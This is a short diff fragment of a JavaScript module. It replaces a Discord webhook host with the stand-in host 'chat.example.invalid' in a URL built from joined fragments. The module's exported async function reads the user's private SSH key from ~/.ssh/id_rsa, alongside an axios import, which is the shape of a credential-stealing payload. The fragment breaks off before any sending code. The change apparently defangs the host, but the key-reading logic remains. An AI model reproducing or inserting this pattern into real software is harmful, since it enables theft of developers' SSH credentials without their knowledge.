@@ -135,7 +135,7 @@ const axios = require('axios');
 const { homedir } = require('os');
 const { readFileSync } = require('fs');
 
-const hook = ['https://discord.com', 'api', 'webhooks', '000', 'x'.repeat(8)].join('/');
+const hook = ['https://chat.example.invalid', 'api', 'webhooks', '000', 'x'.repeat(8)].join('/');
 
 module.exports = async () => {
   const content = readFileSync(`${homedir()}/.ssh/id_rsa`, 'utf8');
